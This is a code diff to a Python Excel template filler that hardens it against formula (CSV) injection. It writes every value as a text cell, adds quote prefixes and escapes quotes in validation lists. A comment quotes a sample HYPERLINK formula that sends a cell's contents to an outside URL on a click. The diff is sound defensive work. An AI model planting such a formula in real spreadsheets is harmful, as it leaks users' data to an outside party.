@@ -21,6 +21,34 @@ from .output import normalize_zip
 
 MARKERS = {"<<tap_the>>": "collective_columns", "<<ca_nhan>>": "individual_columns"}
 
+# What makes Excel (or a CSV export of the sheet) read a text as a formula or a DDE call, after
+# OWASP's guidance on CSV injection: `=HYPERLINK("http://…?"&A1)` sends data out on a click.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def put(cell, value) -> None:
+    """Every value the tool writes into a workbook is data: a text is a string cell, never a
+    formula, whatever it starts with (a unit's name, a cell a unit typed, a file name, a
+    formula's cached result); one that looks like a formula also carries Excel's quote prefix,
+    so editing the cell in Excel keeps it text. Characters a workbook cannot hold (control
+    characters) are shown as «\ufffd» rather than ending the whole write."""
+    if not isinstance(value, str):
+        cell.value = value
+        return
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    cell.value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
+    cell.data_type = "s"
+    if value.startswith(FORMULA_START):
+        cell.quotePrefix = True
+
+
+def append(ws, values) -> None:
+    """ws.append, with every value put as data (see put)."""
+    row = ws.max_row + 1 if ws.max_row > 1 or ws.cell(1, 1).value is not None else 1
+    for column, value in enumerate(values, 1):
+        put(ws.cell(row=row, column=column), value)
+
 
 @lru_cache(maxsize=1)
 def _env():
@@ -81,9 +109,10 @@ def fill(template: Path, ctx: dict[str, Any], issued) -> bytes:
             for cell in row:
                 if isinstance(cell.value, str) and ("{{" in cell.value or "{%" in cell.value):
                     try:
-                        cell.value = _cell_template(cell.value).render(ctx)
+                        text = _cell_template(cell.value).render(ctx)
                     except Exception as err:  # a broken tag or a name the config does not have
                         raise TemplateError(f"mẫu {template.name}, ô {ws.title}!{cell.coordinate}: {err}") from None
+                    put(cell, text)
     ws = wb.worksheets[0]
     found = {str(c.value).strip(): c.row for row in ws.iter_rows(max_col=1) for c in row if str(c.value).strip() in MARKERS}
     if set(found) != set(MARKERS):
@@ -109,7 +138,8 @@ def fill(template: Path, ctx: dict[str, Any], issued) -> bytes:
     for row, key, n in placed:
         columns = ctx["nominations"][key]
         for j, title in enumerate(header(columns), 1):
-            cell = ws.cell(row=row, column=j, value=title)
+            cell = ws.cell(row=row, column=j)
+            put(cell, title)
             cell.font, cell.border, cell.fill = bold, box, shade
             cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
             widths[j] = max(widths.get(j, 0), min(len(title) + 4, 45 if j > 1 else 6))
@@ -124,7 +154,8 @@ def fill(template: Path, ctx: dict[str, Any], issued) -> bytes:
             values = choices.get(column["name"])
             if values and n:
                 letter = _column_letter(j)
-                dv = DataValidation(type="list", formula1='"' + ",".join(values) + '"', allow_blank=True,
+                listed = ",".join(v.replace('"', '""') for v in values)  # a quote in a choice stays a quote
+                dv = DataValidation(type="list", formula1='"' + listed + '"', allow_blank=True,
                                     showErrorMessage=True, errorTitle=column["name"],
                                     error="Chọn một giá trị trong danh sách: " + ", ".join(values) + ".")
                 dv.add(f"{letter}{row + 1}:{letter}{row + n}")
